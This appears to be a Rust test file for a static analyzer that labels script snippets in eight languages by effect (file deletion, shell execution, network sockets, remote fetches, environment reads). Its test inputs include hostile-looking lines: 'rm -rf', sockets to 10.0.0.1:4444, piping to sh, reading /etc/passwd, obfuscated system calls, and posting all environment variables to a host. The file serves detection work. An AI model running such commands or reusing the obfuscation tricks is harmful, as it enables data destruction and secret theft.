//! Perl, Ruby, PHP, awk, Lua, R, Tcl, AppleScript.

use super::check;
use crate::code::Language::{AppleScript, Awk, Lua, Perl, Php, R, Ruby, Tcl};

#[test]
fn perl() {
    check(
        Perl,
        &[
            ("print 1+1", &["prints"]),
            ("while (<>) { s/a/b/; print }", &["prints"]),
            ("print \"system('rm')\\n\"; # unlink 'x'", &["prints"]),
            ("my %h = (a => 1); print join(',', sort keys %h), \"\\n\"", &["prints"]),
            ("print if /unlink \"x\"/", &["prints"]),
            ("my @l = map { $_ * 2 } grep { $_ > 1 } (1, 2); printf(\"%d\\n\", $_) for @l", &["prints"]),
            ("use strict; use warnings; my $x = shift; print $x =~ m{^a/b} ? 'y' : 'n'", &["prints"]),
            ("$s =~ s/(\\d+)/$1 + 1/e; print $s", &["prints"]),
            ("=pod\nsystem('rm')\n=cut\nprint 1", &["prints"]),
            (
                "open(my $f, '<', 'a.txt') or die $!; while (my $l = <$f>) { print $l } close $f",
                &["read a.txt", "prints"],
            ),
            ("use JSON::PP; print encode_json({ a => [1, 2] })", &["prints"]),
            ("print $ENV{HOME}", &["prints", "env HOME"]),
            ("my ($a, $b) = @ARGV; print \"$a $b\\n\" unless $a eq $b", &["prints"]),
            ("sub add { my ($x, $y) = @_; return $x + $y } print add(1, 2)", &["prints"]),
            ("print <<EOT;\nsystem('rm')\nEOT\nprint 2", &["prints"]),
            ("unlink \"x\"", &["delete x"]),
            ("unlink glob \"*.tmp\"", &["delete *.tmp"]),
            ("unlink $_ for <*.o>", &["delete *.o"]),
            ("unlink for ('a', 'b')", &["delete a", "delete b"]),
            ("system('rm -rf x'); exec 'ls', '-l'", &["shell rm -rf x", "argv ls|-l"]),
            ("my $c = 'r' . 'm'; system($c, '-rf', 'x')", &["argv rm|-rf|x"]),
            ("print `ls $x`", &["prints", "shell ls $UNKNOWN"]),
            ("my $o = qx{ls -l}", &["shell ls -l"]),
            ("open(F, \"rm x|\"); open(G, '|-', 'sh')", &["shell rm x", "shell sh"]),
            ("open(my $f, '>', '/etc/x'); open F, \">>y\"", &["write /etc/x", "append y"]),
            ("use File::Path qw(rmtree); rmtree 'x'; File::Path::remove_tree('y')", &["delete all x", "delete all y"]),
            ("eval \"unlink 'x'\"", &["delete x"]),
            ("eval $x", &["dynamic eval"]),
            ("eval { die 1 }; print $@ if $@", &["prints"]),
            ("$x =~ s/(.*)/$1/ee", &["dynamic s///ee"]),
            ("my $f = 'system'; &$f('ls'); &{\"sys\" . \"tem\"}('ls')", &["shell ls", "dynamic &{…}"]),
            ("use MIME::Base64; eval decode_base64('dW5saW5rICJ4Ig==')", &["delete x"]),
            ("system pack('H*', '6c73')", &["shell ls"]),
            (
                "use IO::Socket; IO::Socket::INET->new(PeerAddr => '10.0.0.1', PeerPort => 4444)",
                &["socket 10.0.0.1:4444"],
            ),
            (
                "use LWP::Simple; getstore('http://x/y', 'z'); print get('http://x')",
                &["fetch http://x/y", "write z", "prints", "fetch http://x"],
            ),
            ("print map { \"$_=$ENV{$_}\\n\" } keys %ENV", &["prints", "env *"]),
            ("$dbh->do('DROP TABLE t')", &["sql DROP TABLE t"]),
            (
                "kill 9, 1; chmod 0777, 'x'; rename 'a', 'b'; mkdir 'd'",
                &["kill", "rights x", "write a", "write b", "write d"],
            ),
            ("sub run { system(shift) } run('ls')", &["shell ls"]),
            ("@ARGV = ('/etc/passwd'); print <>", &["read /etc/passwd", "prints"]),
            ("print 'a", &["!", "prints"]),
        ],
    );
}

#[test]
fn ruby() {
    check(
        Ruby,
        &[
            ("puts 1 + 1", &["prints"]),
            ("puts \"system('rm') #{1 + 1}\" # `rm x`", &["prints"]),
            ("require 'json'; puts JSON.parse(STDIN.read)['x']", &["prints"]),
            ("[3, 1].sort.each { |x| puts x }", &["prints"]),
            ("h = { a: 1, 'b' => 2 }; h.delete(:a); h.each do |k, v|\n  puts \"#{k} #{v}\"\nend", &["prints"]),
            ("puts File.read('a.txt').lines.count", &["read a.txt", "prints"]),
            ("s = File.read('a.rb'); File.write('a.rb', s.gsub('x', 'y'))", &["read a.rb", "write a.rb"]),
            ("def f(x)\n  return x if x > 1\n  x + 1\nend\nputs f(2)", &["prints"]),
            ("class A\n  def exec(c)\n    @x = c\n  end\nend\nA.new.exec('rm')", &[]),
            ("puts ENV['HOME'], ENV.fetch('A')", &["env HOME", "env A", "prints"]),
            ("x = [1, 2].map(&:to_s).join(','); puts x =~ /a\\/b/ ? 1 : 2", &["prints"]),
            ("puts <<~EOS\n  `rm x`\nEOS\nputs 1", &["prints"]),
            ("=begin\n`rm x`\n=end\nputs %w[a b].inspect", &["prints"]),
            ("Dir.glob('src/*.rb').each { |f| puts File.basename(f) }", &["prints"]),
            ("require_relative 'lib/app'; App.run", &[]),
            ("File.delete(\"x\")", &["delete x"]),
            ("File.delete \"x\", 'y'", &["delete x", "delete y"]),
            ("`rm y`", &["shell rm y"]),
            ("system \"rm -rf x\"; exec('ls'); spawn 'a', 'b'", &["shell rm -rf x", "shell ls", "argv a|b"]),
            ("%x(ls #{x})", &["shell ls $UNKNOWN"]),
            (
                "require 'fileutils'; FileUtils.rm_rf 'x'; FileUtils.mv('a', 'b')",
                &["delete all x", "write a", "write b"],
            ),
            ("Dir['tmp/*'].each { |f| File.delete(f) }", &["delete tmp/*"]),
            ("['a', 'b'].each do |f|\n  File.delete f\nend", &["delete a", "delete b"]),
            ("%w[a b].each(&File.method(:delete))", &["delete a", "delete b"]),
            ("eval \"File.delete('x')\"", &["delete x"]),
            ("eval(gets); instance_eval(x)", &["dynamic eval", "dynamic instance_eval"]),
            ("Kernel.send(:sys + 'tem', 'ls'); send('system', 'ls')", &["shell ls"]),
            ("Object.const_get('File').delete('x')", &["delete x"]),
            ("method(:system).call('ls')", &["shell ls"]),
            ("system ['6c73'].pack('H*')", &["shell ls"]),
            ("require 'base64'; eval Base64.decode64('RmlsZS5kZWxldGUoJ3gnKQ==')", &["delete x"]),
            ("c = 'ls'; system(\"#{c} -a\")", &["shell ls -a"]),
            ("require 'socket'; s = TCPSocket.new('10.0.0.1', 4444)", &["socket 10.0.0.1:4444"]),
            (
                "require 'open-uri'; puts URI.open('http://x').read; Net::HTTP.post(URI('http://y'), ENV.to_h.to_s)",
                &["fetch http://x", "prints", "env *", "send http://y"],
            ),
            ("IO.popen(['rm', 'x']); open('|ls'); Open3.capture2('ls')", &["argv rm|x", "shell ls"]),
            ("File.open('x', 'w') { |f| f.puts 1 }", &["write x"]),
            ("Process.kill(9, 1); File.chmod(0777, 'x')", &["kill", "rights x"]),
            ("def run(c)\n  system(c)\nend\nrun('ls')", &["shell ls"]),
            ("Pathname.new('x').rmtree", &["delete all x"]),
            ("puts 'a", &["!", "prints"]),
        ],
    );
}

#[test]
fn php() {
    check(
        Php,
        &[
            ("echo 1 + 1;", &["prints"]),
            ("// unlink('x');\n# system('x')\n/* exec('x') */ echo \"system('rm')\";", &["prints"]),
            ("<h1>exec('x')</h1><?php echo 1; ?><p>unlink('x')</p>", &["prints"]),
            ("$d = json_decode(file_get_contents('php://stdin'), true); print_r($d);", &["prints"]),
            ("foreach ([1, 2] as $x) { echo $x . \"\\n\"; }", &["prints"]),
            ("function f($x) { return $x + 1; } echo f(2);", &["prints"]),
            ("class A { public function exec($c) { return $c; } } (new A())->exec('rm');", &[]),
            (
                "$s = file_get_contents('a.php'); file_put_contents('a.php', str_replace('x', 'y', $s));",
                &["read a.php", "write a.php"],
            ),
            ("require __DIR__ . '/vendor/autoload.php'; use App\\Kernel; $k = new Kernel();", &[]),
            ("echo getenv('HOME'), $_ENV['A'];", &["prints", "env HOME", "env A"]),
            ("$x = array_map(fn($a) => $a * 2, [1, 2]); echo implode(',', $x);", &["prints"]),
            ("echo <<<EOT\nsystem('rm') $x\nEOT;\necho 2;", &["prints"]),
            ("if ($a) echo 'b'; else { echo 'c'; }", &["prints"]),
            ("unlink('x');", &["delete x"]),
            (
                "system('rm -rf x'); exec(\"ls $x\"); echo `ls`; passthru('a');",
                &["shell rm -rf x", "shell ls $UNKNOWN", "prints", "shell ls", "shell a"],
            ),
            ("$f = 'sys' . 'tem'; $f('ls');", &["shell ls"]),
            ("('sys' . 'tem')('ls');", &["shell ls"]),
            (
                "call_user_func('system', 'ls'); call_user_func_array('exec', ['ls']); array_map('unlink', glob('*.log'));",
                &["shell ls", "delete *.log"],
            ),
            ("eval('unlink(\"x\");'); eval($x); assert($y);", &["delete x", "dynamic eval"]),
            ("eval(base64_decode('dW5saW5rKCd4Jyk7'));", &["delete x"]),
            ("system(str_rot13('yf')); system(strrev('sl')); system(hex2bin('6c73'));", &["shell ls"]),
            ("preg_replace('/x/e', 'system(\"ls\")', 'x');", &["dynamic preg_replace"]),
            (
                "include $x; include 'http://x/y.php'; require '/tmp/x.php';",
                &["dynamic include", "argv php|/tmp/x.php"],
            ),
            ("foreach (glob('cache/*') as $f) unlink($f);", &["delete cache/*"]),
            ("$c = curl_init('http://x'); curl_setopt($c, CURLOPT_POSTFIELDS, 'a');", &["fetch http://x", "send ?"]),
            (
                "fsockopen('10.0.0.1', 4444); rename('a', 'b'); mkdir('d'); chmod('x', 0777);",
                &["socket 10.0.0.1:4444", "write a", "write b", "write d", "rights x"],
            ),
            (
                "$p = new PDO('sqlite:x'); $p->exec('DROP TABLE t'); mysqli_query($c, 'SELECT 1');",
                &["sql DROP TABLE t", "sql SELECT 1"],
            ),
            (
                "fopen('x', 'w'); fopen('y', 'a'); readfile('/etc/passwd');",
                &["write x", "append y", "read /etc/passwd", "prints"],
            ),
            ("run('ls'); function run($c) { system($c); }", &["shell ls"]),
            (
                "FFI::cdef('int system(char *);')->system('ls'); (new ReflectionFunction('system'))->invoke('ls');",
                &["native FFI", "shell ls"],
            ),
            (
                "$o = new class { function x() { unlink('y'); } }; $g = $_GET['f']; $g('x');",
                &["dynamic function by name", "delete y"],
            ),
            ("echo 'a", &["!", "prints"]),
        ],
    );
}

#[test]
fn awk() {
    check(
        Awk,
        &[
            ("{print $1}", &["prints"]),
            ("BEGIN { FS = \",\" } $3 > 5 { s += $2 } END { print s / NR }", &["prints"]),
            ("/system\\(/ { print \"system(rm)\" } # system(\"x\")", &["prints"]),
            ("{ a[$1]++ } END { for (k in a) printf \"%s %d\\n\", k, a[k] }", &["prints"]),
            ("function f(x) { return x + 1 }\n{ print f($1), toupper($2), length }", &["prints"]),
            ("{ gsub(/a/, \"b\"); print > \"/dev/stderr\" }", &["prints"]),
            ("BEGIN { print ENVIRON[\"HOME\"] }", &["prints", "env HOME"]),
            ("BEGIN { while ((getline l < \"a.txt\") > 0) print l }", &["read a.txt", "prints"]),
            ("NR==FNR{a[$1]=$2;next} $1 in a{print $0, a[$1]}", &["prints"]),
            ("BEGIN { system(\"rm x\") }", &["shell rm x"]),
            ("{ system(\"rm \" $1) }", &["shell rm $UNKNOWN"]),
            ("{ print > \"/etc/x\" }", &["prints", "write /etc/x"]),
            ("{ print $1, $2 >> \"log\" }", &["prints", "append log"]),
            ("{ print $0 | \"sh\" }", &["prints", "shell sh"]),
            ("BEGIN { while ((\"rm y\" | getline) > 0); }", &["shell rm y"]),
            ("BEGIN { c = \"l\" \"s\"; c | getline x; print x }", &["shell ls", "prints"]),
            ("BEGIN { s = \"/inet/tcp/0/10.0.0.1/4444\"; print \"x\" |& s }", &["prints", "socket 10.0.0.1:4444"]),
            (
                "@load \"filefuncs\"\nBEGIN { f = \"system\"; @f(\"ls\") }",
                &["native filefuncs", "dynamic function by name"],
            ),
            ("BEGIN { ARGV[1] = \"/etc/passwd\"; ARGC = 2 } { print }", &["read /etc/passwd", "prints"]),
            ("BEGIN { print \"a", &["!", "prints"]),
        ],
    );
}

#[test]
fn lua() {
    check(
        Lua,
        &[
            ("print(1 + 1) -- os.execute('x')", &["prints"]),
            ("--[[ os.remove('x') ]] local t = {a = 1, 2}; for k, v in pairs(t) do print(k, v) end", &["prints"]),
            ("local s = [[os.execute('rm')]]; print(s:upper(), #s)", &["prints"]),
            ("local f = io.open('a.txt'); print(f:read('*a')); f:close()", &["read a.txt", "prints"]),
            ("local function f(x) if x then return 1 end return 2 end print(f(3))", &["prints"]),
            ("local m = require('my.mod'); m.run(); print(os.getenv('HOME'), os.time())", &["env HOME", "prints"]),
            ("os.execute('rm -rf x'); os.remove 'y'", &["shell rm -rf x", "delete y"]),
            ("local o = os; o['exe' .. 'cute']('ls'); _G['os']['remove']('x')", &["shell ls", "delete x"]),
            ("io.popen('ls ' .. arg[1]):read('*a')", &["shell ls $UNKNOWN"]),
            ("load('os.remove(\"x\")')(); loadstring(x)()", &["delete x", "dynamic loadstring"]),
            ("for _, f in ipairs({'a', 'b'}) do os.remove(f) end", &["delete a", "delete b"]),
            ("io.open('x', 'w'):write('a'); os.rename('a', 'b')", &["write x", "write a", "write b"]),
            (
                "require('socket').connect('h', 1); require('socket.http').request('http://x')",
                &["socket h:1", "fetch http://x"],
            ),
            (
                "package.loadlib('x.so', 'f'); os.execute(string.char(108, 115))",
                &["native package.loadlib", "shell ls"],
            ),
            ("function run(c) os.execute(c) end\nrun('ls')", &["shell ls"]),
            ("print('a", &["!", "prints"]),
        ],
    );
}

#[test]
fn r() {
    check(
        R,
        &[
            ("print(1 + 1) # system('x')", &["prints"]),
            ("x <- c(1, 2); cat(mean(x), '\\n'); y = sapply(x, function(v) v * 2)", &["prints"]),
            ("d <- read.csv('a.csv'); write.csv(d, 'b.csv', row.names = FALSE)", &["read a.csv", "write b.csv"]),
            ("library(ggplot2); p <- ggplot(d, aes(x, y)) + geom_point(); ggsave('a.png')", &["write a.png"]),
            ("if (x > 1) print('a') else print('system')", &["prints"]),
            ("f <- function(x, y = 2) {\n  x + y\n}\nf(1)", &[]),
            ("print(Sys.getenv('HOME')); file.exists('x'); getwd()", &["env HOME", "prints"]),
            ("system('rm -rf x'); system2('rm', c('-rf', 'x'))", &["shell rm -rf x", "argv rm|-rf|x"]),
            ("unlink('x', recursive = TRUE); file.remove('y')", &["delete all x", "delete y"]),
            ("eval(parse(text = 'file.remove(\"x\")')); eval(x)", &["delete x"]),
            ("do.call('system', list('ls')); get('system')('ls'); base::system(paste0('l', 's'))", &["shell ls"]),
            (
                "source('http://x/y.R'); source('a.R'); download.file('http://x', 'y')",
                &["fetch http://x/y.R", "dynamic source", "argv Rscript|a.R", "fetch http://x", "write y"],
            ),
            ("for (f in list.files('tmp')) file.remove(f)", &["delete tmp/*"]),
            ("lapply(c('a', 'b'), file.remove)", &["delete a", "delete b"]),
            ("cmd <- paste('rm', '-rf', 'x'); system(cmd); 'ls' -> z; system(z)", &["shell rm -rf x", "shell ls"]),
            ("dyn.load('x.so'); print(Sys.getenv())", &["native dyn.load", "env *", "prints"]),
            ("print('a", &["!", "prints"]),
        ],
    );
}

#[test]
fn tcl() {
    check(
        Tcl,
        &[
            ("puts [expr {1 + 1}] ;# exec rm", &["prints"]),
            ("set x 1\nif {$x > 0} { puts \"exec rm $x\" }", &["prints"]),
            ("if {$x > 0} { puts a } elseif {[catch {exec ls} e]} { puts $e }", &["prints", "argv ls"]),
            ("foreach f [glob *.txt] { puts $f }", &["prints"]),
            ("exec rm -rf x", &["argv rm|-rf|x"]),
            ("set c rm; exec $c -rf [string reverse x] > out | sh", &["write out", "argv rm|-rf|x", "argv sh"]),
            ("proc go {} { file delete -force x }\ngo", &["delete all x"]),
            ("open \"|ls -l\"; open a.txt w; source b.tcl", &["shell ls -l", "write a.txt", "argv tclsh|b.tcl"]),
            ("eval $x; eval {exec ls}; socket h 1", &["dynamic eval", "argv ls", "socket h:1"]),
            ("foreach f [glob *.o] { file delete $f }", &["delete *.o"]),
            ("puts $env(HOME); spawn ssh h; load x.so", &["env HOME", "prints", "argv ssh|h", "native load"]),
            ("db eval {DROP TABLE t}; exec ls {", &["!", "sql DROP TABLE t", "argv ls|"]),
        ],
    );
}

#[test]
fn applescript() {
    check(
        AppleScript,
        &[
            ("display dialog \"do shell script\"", &["prints"]),
            ("-- do shell script \"rm\"\nset x to \"a\"\nreturn x", &[]),
            ("tell application \"Finder\" to get name of every window", &[]),
            ("do shell script \"rm -rf x\"", &["shell rm -rf x"]),
            ("set p to \"x\"\ndo shell script \"rm \" & quoted form of p", &["shell rm x"]),
            ("do shell script \"ls \" & y", &["shell ls $UNKNOWN"]),
            ("do shell script \"ls\" with administrator privileges", &["shell ls", "argv sudo|sh|-c|ls"]),
            ("tell application \"Terminal\" to do script \"ls\"", &["shell ls"]),
            (
                "tell application \"Finder\" to delete POSIX file \"/x\"\ntell application \"Finder\" to empty trash",
                &["delete all /x", "delete all ~/.Trash"],
            ),
            ("run script \"do shell script \\\"ls\\\"\"\nopen location \"http://x\"", &["shell ls", "fetch http://x"]),
            ("tell application \"System Events\" to keystroke \"q\"", &["dynamic keystroke"]),
            ("read POSIX file \"/etc/passwd\"", &["read /etc/passwd"]),
            ("display dialog \"a", &["!", "prints"]),
        ],
    );
}
